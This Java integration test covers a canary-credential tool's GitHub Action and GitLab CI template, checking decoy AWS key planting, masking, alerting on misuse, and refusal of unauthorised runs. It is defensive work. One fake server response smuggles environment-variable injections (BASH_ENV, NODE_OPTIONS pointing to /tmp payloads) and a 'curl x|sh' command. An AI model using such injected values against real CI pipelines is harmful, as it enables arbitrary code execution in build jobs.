package io.canarykit.server;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import io.canarykit.Alert;
import io.canarykit.CanaryId;
import io.canarykit.CanaryRecord;
import io.canarykit.CanaryStatus;
import io.canarykit.RunPhase;
import io.canarykit.alert.AlertJson;
import io.canarykit.alert.LoggingAlertSink;
import io.canarykit.testkit.aws.EmulatedCredentials;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import software.amazon.awssdk.auth.credentials.ProfileCredentialsProvider;
import software.amazon.awssdk.profiles.ProfileFile;
import software.amazon.awssdk.regions.Region;
import software.amazon.awssdk.services.sts.StsClient;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The GitHub action's scripts and the GitLab CI template, run as a CI job runs them (Node for the action, sh for the
 * template) against the server, with a test OpenID Connect issuer and the runner's files pointing at temporary files,
 * and the canary then used with the real AWS SDK against the emulator.
 */
class CiIntegrationsIT {
    private static final Path ACTION = Path.of("..", "integrations", "github-action").toAbsolutePath().normalize();
    private static final Path TEMPLATE = Path.of("..", "integrations", "gitlab", "canary.gitlab-ci.yml").toAbsolutePath()
            .normalize();
    private static final String REPO = "acme/paygate";
    private static final String RUN_ID = "7153946261";
    private static final String SHA = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4";
    private static CiTestBed bed;

    @TempDir
    Path dir;

    @BeforeAll
    static void start() {
        bed = new CiTestBed();
    }

    @AfterAll
    static void stop() {
        bed.close();
    }

    @BeforeEach
    void noAlertsYet() {
        bed.aws.deliverNow(); // what earlier tests did is alerted on now, and forgotten
        bed.service.detect();
        bed.alerts.clear();
    }

    private static Map<String, Object> run(String runId) {
        Map<String, Object> c = TestOidcIssuer.githubRun(REPO);
        c.put("run_id", runId);
        return c;
    }

    /** The runner's files and inputs for one use of the action. */
    private Map<String, String> runner(Map<String, String> inputs) throws IOException {
        Map<String, String> env = new LinkedHashMap<>();
        for (String f : List.of("GITHUB_ENV", "GITHUB_STATE", "GITHUB_OUTPUT")) {
            Path p = dir.resolve(f.toLowerCase());
            if (!Files.exists(p)) {
                Files.createFile(p);
            }
            env.put(f, p.toString());
        }
        env.put("ACTIONS_ID_TOKEN_REQUEST_URL", bed.github.idTokenRequestUrl());
        env.put("ACTIONS_ID_TOKEN_REQUEST_TOKEN", TestOidcIssuer.REQUEST_TOKEN);
        env.put("INPUT_SERVER", bed.api.uri().toString());
        env.put("INPUT_AUDIENCE", TestOidcIssuer.AUDIENCE);
        inputs.forEach((k, v) -> env.put("INPUT_" + k.toUpperCase(), v));
        env.put("HOME", dir.resolve("home").toString());
        return env;
    }

    private record Result(int exit, String out) {
    }

    private static Result exec(List<String> command, Map<String, String> env) throws Exception {
        ProcessBuilder pb = new ProcessBuilder(command).redirectErrorStream(true);
        Map<String, String> e = pb.environment();
        e.keySet().removeIf(k -> k.startsWith("INPUT_") || k.startsWith("STATE_") || k.startsWith("GITHUB_")
                || k.startsWith("ACTIONS_") || k.startsWith("CANARYKIT_") || k.startsWith("AWS_") || k.startsWith("CI_"));
        e.putAll(env);
        Process p = pb.start();
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(p.waitFor(60, TimeUnit.SECONDS)).isTrue();
        return new Result(p.exitValue(), out);
    }

    private static Result node(String script, Map<String, String> env) throws Exception {
        return exec(List.of("node", ACTION.resolve(script).toString()), env);
    }

    /** Reads a runner environment file as the runner does ({@code NAME<<DELIMITER}, lines, {@code DELIMITER}). */
    static Map<String, String> runnerFile(Path file) throws IOException {
        Map<String, String> out = new LinkedHashMap<>();
        List<String> lines = Files.readAllLines(file);
        for (int i = 0; i < lines.size(); i++) {
            String l = lines.get(i);
            int h = l.indexOf("<<");
            if (h > 0) {
                String delimiter = l.substring(h + 2);
                List<String> value = new ArrayList<>();
                while (!lines.get(++i).equals(delimiter)) {
                    value.add(lines.get(i));
                }
                out.put(l.substring(0, h), String.join("\n", value));
            } else if (l.contains("=")) {
                out.put(l.substring(0, l.indexOf('=')), l.substring(l.indexOf('=') + 1));
            }
        }
        return out;
    }

    @Test
    void theActionDeclaresAPostStepThatAlwaysRuns() throws IOException {
        JsonNode action = new ObjectMapper(new YAMLFactory()).readTree(ACTION.resolve("action.yml").toFile());
        assertThat(action.at("/runs/using").asText()).startsWith("node");
        assertThat(action.at("/runs/main").asText()).isEqualTo("main.js");
        assertThat(action.at("/runs/post").asText()).isEqualTo("post.js");
        assertThat(action.at("/runs/post-if").asText()).isEqualTo("always()");
        for (String input : List.of("server", "audience", "target", "prefix", "path", "aws-profile", "profile", "kind",
                "fail-on-error")) {
            assertThat(action.at("/inputs/" + input).isObject()).as(input).isTrue();
        }
        assertThat(Files.list(ACTION).map(p -> p.getFileName().toString()))
                .as("no dependencies: no package.json, no node_modules")
                .containsExactlyInAnyOrder("action.yml", "lib.js", "main.js", "post.js", "README.md");
    }

    /**
     * The "done when": OIDC token → canary planted in $GITHUB_ENV → the job completes → the canary is used
     * afterwards with the real SDK → exactly one alert naming the repository, workflow, run id and sha, "used after
     * the run finished".
     */
    @Test
    void aCanaryUsedAfterTheRunFinishedRaisesOneAlertWithTheRunsContext() throws Exception {
        bed.github.serveIdToken(bed.github.token(run(RUN_ID)));
        Map<String, String> env = runner(Map.of("target", "github-env", "prefix", "AWS_"));
        Result main = node("main.js", env);
        assertThat(main.exit()).as(main.out()).isZero();

        Map<String, String> githubEnv = runnerFile(Path.of(env.get("GITHUB_ENV")));
        assertThat(githubEnv).containsOnlyKeys("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN");
        String secret = githubEnv.get("AWS_SECRET_ACCESS_KEY");
        assertThat(main.out()).as("masked before anything could print it").contains("::add-mask::" + secret)
                .contains("::add-mask::" + githubEnv.get("AWS_SESSION_TOKEN"));
        assertThat(main.out().replace("::add-mask::" + secret, "")).doesNotContain(secret);
        String id = runnerFile(Path.of(env.get("GITHUB_STATE"))).get("canary_id");
        assertThat(runnerFile(Path.of(env.get("GITHUB_OUTPUT")))).containsEntry("canary-id", id);
        CanaryRecord issued = bed.store.find(CanaryId.parse(id)).orElseThrow();
        assertThat(issued.accessKeyId()).isEqualTo(githubEnv.get("AWS_ACCESS_KEY_ID"));

        // the job's steps run; the job ends and the post step reports it with a fresh token
        bed.clock.advance(Duration.ofMinutes(6));
        bed.github.serveIdToken(bed.github.token(run(RUN_ID)));
        Map<String, String> postEnv = new HashMap<>(env);
        postEnv.put("STATE_canary_id", id);
        Result post = node("post.js", postEnv);
        assertThat(post.exit()).as(post.out()).isZero();
        assertThat(post.out()).contains("canary " + id + " completed");
        assertThat(bed.store.find(CanaryId.parse(id)).orElseThrow().status()).isEqualTo(CanaryStatus.COMPLETED);

        // credentials exfiltrated from the run, used later with the real SDK
        bed.clock.advance(Duration.ofMinutes(10));
        EmulatedCredentials stolen = EmulatedCredentials.of(githubEnv.get("AWS_ACCESS_KEY_ID"), secret,
                githubEnv.get("AWS_SESSION_TOKEN"), null);
        StsClient sts = bed.aws.client(StsClient.builder(), stolen);
        assertThat(sts.getCallerIdentity().arn()).endsWith("/" + issued.principal().name());
        bed.clock.advance(Duration.ofMinutes(5));
        bed.aws.deliverNow();

        bed.service.detect();
        bed.clock.advance(Duration.ofMinutes(20));
        bed.service.detect();

        assertThat(bed.alerts).hasSize(1);
        Alert alert = bed.alerts.get(0);
        assertThat(alert.canary().id().value()).isEqualTo(id);
        assertThat(RunPhase.of(alert)).contains(RunPhase.AFTER_RUN);
        assertThat(alert.canary().asset().labels()).containsEntry("repository", REPO).containsEntry("workflow", "deploy")
                .containsEntry("run-id", RUN_ID).containsEntry("sha", SHA);
        // what the responder sees, as text and as JSON
        assertThat(LoggingAlertSink.format(alert)).contains("repository=" + REPO, "workflow=deploy", "run-id=" + RUN_ID,
                "sha=" + SHA, "CI run: used after the run finished");
        JsonNode json = CanaryJson.MAPPER.readTree(AlertJson.toJson(alert));
        assertThat(json.at("/run/phase").asText()).isEqualTo("after-run");
        assertThat(json.at("/run/description").asText()).isEqualTo("used after the run finished");
        assertThat(json.at("/canary/asset/labels/repository").asText()).isEqualTo(REPO);
        assertThat(json.at("/canary/asset/labels/workflow").asText()).isEqualTo("deploy");
        assertThat(json.at("/canary/asset/labels/run-id").asText()).isEqualTo(RUN_ID);
        assertThat(json.at("/canary/asset/labels/sha").asText()).isEqualTo(SHA);
    }

    @Test
    void aCanaryUsedDuringTheRunAlertsAsUsedDuringTheRun() throws Exception {
        bed.github.serveIdToken(bed.github.token(run("7153946262")));
        Path credentials = dir.resolve("home/.aws/credentials");
        Map<String, String> env = runner(Map.of("target", "credentials-file", "aws-profile", "billing-admin"));
        Result main = node("main.js", env);
        assertThat(main.exit()).as(main.out()).isZero();
        assertThat(Files.getPosixFilePermissions(credentials)).isEqualTo(PosixFilePermissions.fromString("rw-------"));
        assertThat(Files.readString(credentials)).startsWith("[billing-admin]\naws_access_key_id = ASIA");

        // a compromised step uses it while the job runs: the real SDK reads the profile from the file
        bed.clock.advance(Duration.ofMinutes(2));
        ProfileFile file = ProfileFile.builder().content(credentials).type(ProfileFile.Type.CREDENTIALS).build();
        try (StsClient sts = StsClient.builder().endpointOverride(bed.aws.endpoint()).region(Region.US_EAST_1)
                .credentialsProvider(ProfileCredentialsProvider.builder().profileFile(file).profileName("billing-admin")
                        .build())
                .httpClientBuilder(software.amazon.awssdk.http.urlconnection.UrlConnectionHttpClient.builder()).build()) {
            sts.getCallerIdentity();
        }
        bed.clock.advance(Duration.ofMinutes(3));
        String id = runnerFile(Path.of(env.get("GITHUB_STATE"))).get("canary_id");
        bed.github.serveIdToken(bed.github.token(run("7153946262")));
        Map<String, String> postEnv = new HashMap<>(env);
        postEnv.put("STATE_canary_id", id);
        assertThat(node("post.js", postEnv).exit()).isZero();
        bed.aws.deliverNow();
        bed.service.detect();

        assertThat(bed.alerts).singleElement().satisfies(a -> {
            assertThat(a.canary().id().value()).isEqualTo(id);
            assertThat(RunPhase.of(a)).as("the use came before the run completed, though seen after")
                    .contains(RunPhase.DURING_RUN);
            assertThat(LoggingAlertSink.format(a)).contains("CI run: used during the run");
        });
    }

    @Test
    void aRefusedRunFailsTheJobOnlyWhenAsked() throws Exception {
        bed.github.serveIdToken(bed.github.token(TestOidcIssuer.githubRun("mallory/exfil")));
        Result warned = node("main.js", runner(Map.of()));
        assertThat(warned.exit()).isZero();
        assertThat(warned.out()).contains("::warning::canarykit: the canarykit server refused the canary: HTTP 403: "
                + "no github-actions rule allows repository mallory/exfil");
        assertThat(Files.readString(dir.resolve("github_env"))).isEmpty();
        Result failed = node("main.js", runner(Map.of("fail-on-error", "true")));
        assertThat(failed.exit()).isEqualTo(1);
        assertThat(failed.out()).contains("::error::canarykit:");
        Map<String, String> post = runner(Map.of());
        assertThat(node("post.js", post).out()).contains("nothing to complete");
    }

    /** A server (or whoever answers in its place) that tries to write its own variables into the job's environment. */
    private static final String HOSTILE = "{\"canaryId\":\"01JEZ8Q4X9M7T2V6B3N5K8C1RD\",\"credential\":{"
            + "\"accessKeyId\":\"ASIAQRSTUVWXYZ234567\\nBASH_ENV=/tmp/pwn.sh\",\"secretAccessKey\":\"abc\\\"; curl x|sh; \\\"\","
            + "\"sessionToken\":\"tok\\nNODE_OPTIONS=--require=/tmp/pwn.js\"}}";

    @Test
    void aHostileAnswerCannotWriteIntoTheJobsEnvironmentAndTheTokenGoesOnlyToHttps() throws Exception {
        com.github.tomakehurst.wiremock.WireMockServer fake = new com.github.tomakehurst.wiremock.WireMockServer(
                com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig().bindAddress("127.0.0.1")
                        .dynamicPort().jettyAcceptors(1).containerThreads(8));
        fake.start();
        try {
            fake.stubFor(com.github.tomakehurst.wiremock.client.WireMock.any(
                    com.github.tomakehurst.wiremock.client.WireMock.anyUrl()).willReturn(
                    com.github.tomakehurst.wiremock.client.WireMock.aResponse().withStatus(201)
                            .withHeader("Content-Type", "application/json").withBody(HOSTILE)));
            bed.github.serveIdToken(bed.github.token(run("7153946263")));
            Map<String, String> env = runner(Map.of("fail-on-error", "true"));
            env.put("INPUT_SERVER", fake.baseUrl());
            Result main = node("main.js", env);
            assertThat(main.exit()).isEqualTo(1);
            assertThat(main.out()).contains("::error::canarykit: the server's answer has no usable access key id");
            assertThat(Files.readString(dir.resolve("github_env"))).as("nothing exported").isEmpty();

            Map<String, String> job = gitlabJob(TestOidcIssuer.gitlabJob("acme/platform/deployer"),
                    Map.of("CANARYKIT_SERVER", fake.baseUrl()));
            Path seen = dir.resolve("hostile-env");
            Result gitlab = exec(List.of("sh", "-e", "-c", template().at("/before_script/0").asText()
                    + "\nenv > '" + seen + "'\n"), job);
            assertThat(gitlab.exit()).as(gitlab.out()).isZero();
            assertThat(Files.readString(seen)).doesNotContain("BASH_ENV").doesNotContain("NODE_OPTIONS")
                    .doesNotContain("AWS_ACCESS_KEY_ID").doesNotContain("curl x");
        } finally {
            fake.stop();
        }

        // a server that is not https (and not loopback) never sees the job's token
        bed.github.serveIdToken(bed.github.token(run("7153946264")));
        Map<String, String> plain = runner(Map.of());
        plain.put("INPUT_SERVER", "http://canary.example.com");
        Result refused = node("main.js", plain);
        assertThat(refused.out()).contains("::warning::canarykit: the canarykit server must be an https:// URL, not "
                + "http://canary.example.com");
        Result gitlab = exec(List.of("sh", "-e", "-c", template().at("/before_script/0").asText()),
                gitlabJob(TestOidcIssuer.gitlabJob("acme/platform/deployer"),
                        Map.of("CANARYKIT_SERVER", "http://canary.example.com")));
        assertThat(gitlab.out()).contains("the canarykit server must be an https:// URL");
    }

    // ------------------------------------------------------------------------------------------------ GitLab

    private static JsonNode template() throws IOException {
        return new ObjectMapper(new YAMLFactory()).readTree(TEMPLATE.toFile()).get(".canarykit");
    }

    private Map<String, String> gitlabJob(Map<String, Object> claims, Map<String, String> variables) throws IOException {
        Map<String, String> env = new LinkedHashMap<>();
        template().get("variables").fields().forEachRemaining(e -> env.put(e.getKey(), e.getValue().asText()));
        env.put("CANARYKIT_SERVER", bed.api.uri().toString());
        env.put("CANARYKIT_AUDIENCE", TestOidcIssuer.AUDIENCE);
        env.put("CANARYKIT_ID_TOKEN", bed.gitlab.token(claims));
        env.put("HOME", dir.resolve("home").toString());
        env.putAll(variables);
        return env;
    }

    @Test
    void theGitLabTemplatePlantsTheCanaryForTheJobsScriptAndCompletesItInAfterScript() throws Exception {
        JsonNode t = template();
        assertThat(t.at("/id_tokens/CANARYKIT_ID_TOKEN/aud").asText()).isEqualTo("$CANARYKIT_AUDIENCE");
        String before = t.at("/before_script/0").asText();
        String after = t.at("/after_script/0").asText();
        Path seen = dir.resolve("script-env");
        Map<String, String> job = gitlabJob(TestOidcIssuer.gitlabJob("acme/platform/deployer"), Map.of());

        // before_script and script share one shell: the job's script sees the exported variables
        // GitLab runs a job's script with bash -e -o pipefail where the image has bash, else sh -e
        Result script = exec(List.of("bash", "-e", "-o", "pipefail", "-c", before + "\nenv > '" + seen + "'\n"), job);
        assertThat(script.exit()).as(script.out()).isZero();
        Map<String, String> vars = new HashMap<>();
        for (String l : Files.readAllLines(seen)) {
            if (l.startsWith("AWS_")) {
                vars.put(l.substring(0, l.indexOf('=')), l.substring(l.indexOf('=') + 1));
            }
        }
        assertThat(vars).containsOnlyKeys("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN");
        assertThat(script.out()).contains("canarykit: canary").contains("planted (env)")
                .doesNotContain(vars.get("AWS_SECRET_ACCESS_KEY")).doesNotContain(vars.get("AWS_SESSION_TOKEN"));
        CanaryRecord r = bed.store.findByAccessKeyId(vars.get("AWS_ACCESS_KEY_ID")).get(0);
        assertThat(r.asset().labels()).containsEntry("project-path", "acme/platform/deployer")
                .containsEntry("pipeline-id", "99001").containsEntry("job-id", "5550001");
        assertThat(bed.aws.client(StsClient.builder(), EmulatedCredentials.of(vars.get("AWS_ACCESS_KEY_ID"),
                vars.get("AWS_SECRET_ACCESS_KEY"), vars.get("AWS_SESSION_TOKEN"), null)).getCallerIdentity().arn())
                .endsWith("/" + r.principal().name());

        // after_script runs in a shell of its own, with the same ID token
        Result done = exec(List.of("bash", "-e", "-o", "pipefail", "-c", after), job);
        assertThat(done.exit()).as(done.out()).isZero();
        assertThat(done.out()).contains("completing canary " + r.id() + ": HTTP 200");
        assertThat(bed.store.find(r.id()).orElseThrow().status()).isIn(CanaryStatus.COMPLETED, CanaryStatus.TRIGGERED);
        assertThat(RunPhase.completedAt(bed.store.find(r.id()).orElseThrow())).isPresent();
    }

    @Test
    void theGitLabTemplateWritesAnEnvFileOrReportsARefusal() throws Exception {
        JsonNode t = template();
        String before = t.at("/before_script/0").asText();
        Map<String, Object> claims = TestOidcIssuer.gitlabJob("acme/platform/deployer");
        claims.put("job_id", "5550077");
        Path envFile = dir.resolve("ci/deploy.env");
        Result planted = exec(List.of("sh", "-e", "-c", before), gitlabJob(claims, Map.of("CANARYKIT_TARGET", "env-file",
                "CANARYKIT_PATH", envFile.toString(), "CANARYKIT_PREFIX", "DEPLOY_")));
        assertThat(planted.exit()).as(planted.out()).isZero();
        assertThat(Files.readString(envFile)).startsWith("DEPLOY_ACCESS_KEY_ID=ASIA").contains("\nDEPLOY_SESSION_TOKEN=");
        assertThat(Files.getPosixFilePermissions(envFile)).isEqualTo(PosixFilePermissions.fromString("rw-------"));

        Map<String, Object> forked = TestOidcIssuer.gitlabJob("mallory/fork");
        Result refused = exec(List.of("sh", "-e", "-c", before + "\nenv > '" + dir.resolve("refused-env") + "'\n"),
                gitlabJob(forked, Map.of()));
        assertThat(refused.exit()).isZero();
        assertThat(refused.out()).contains("canarykit: the server refused the canary: HTTP 403 no gitlab-ci rule allows "
                + "project mallory/fork");
        assertThat(Files.readString(dir.resolve("refused-env"))).doesNotContain("AWS_ACCESS_KEY_ID");
        Result failing = exec(List.of("sh", "-e", "-c", before + "\necho the-script-ran\n"),
                gitlabJob(forked, Map.of("CANARYKIT_FAIL_ON_ERROR", "true")));
        assertThat(failing.exit()).isEqualTo(1);
        assertThat(failing.out()).doesNotContain("the-script-ran");
    }
}
